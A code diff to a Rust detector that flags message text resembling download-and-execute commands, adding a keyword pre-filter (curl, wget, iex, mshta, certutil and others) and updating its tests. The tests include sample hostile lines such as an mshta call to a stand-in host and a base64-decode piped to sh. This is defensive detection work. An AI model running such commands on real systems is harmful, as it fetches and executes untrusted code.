@@ -2,12 +2,13 @@
 
 use std::sync::LazyLock;
 
-use second_look_pattern::Regex;
+use regex::Regex;
 
 use crate::case::{Case, Context, Origin};
 use crate::finding::{Findings, Strength};
 use crate::sign::{Family, Meta, Part, Status, Who};
 use crate::signs::phrase_sign;
+use crate::text::mention;
 
 /// What the sign is.
 pub const META: Meta = Meta {
@@ -46,13 +47,19 @@ pub fn look(case: &Case, context: &Context, findings: &mut Findings) {
     let mut lines = Vec::new();
     for scanned in context.scanned(case).iter().filter(|s| matches!(s.origin, Origin::Message(_))) {
         let text = scanned.text.as_str();
-        for found in SHAPES.iter().flat_map(|shapes| shapes.find_iter(text)) {
+        for found in may_hold_line(text).then(|| SHAPES.as_ref()).flatten().into_iter().flat_map(|shapes| shapes.find_iter(text)) {
             let line = found.as_str().to_ascii_lowercase();
             let strength = if PUBLISHED.iter().any(|host| line.contains(host)) { Strength::Weak } else { Strength::Strong };
             lines.push((scanned.text.evidence(found.range()), strength));
         }
     }
     phrase_sign::weigh(&META, case, context, findings, lines);
+}
+
+/// Each of the lines joins two programs or names one of these.
+fn may_hold_line(text: &str) -> bool {
+    text.contains(['|', '&', '(']) && mention::holds(text, &["curl", "wget", "iwr", "irm", "iex", "invoke-", "base64"])
+        || mention::holds(text, &["powershell", "pwsh", "iex", "invoke-expression", "mshta", "msiexec", "certutil"])
 }
 
 #[cfg(test)]
@@ -71,7 +78,7 @@ mod tests {
             "mshta https://a.example/v.hta",
             "echo aGVsbG8= | base64 -d | sh",
         ] {
-            assert!(shapes.is_match(line), "{line}");
+            assert!(may_hold_line(line) && shapes.is_match(line), "{line}");
         }
         for line in ["curl -I https://a.example", "Use wget to fetch the file, then read it", "powershell -File build.ps1", "ls | sort"] {
             assert!(!shapes.is_match(line), "{line}");
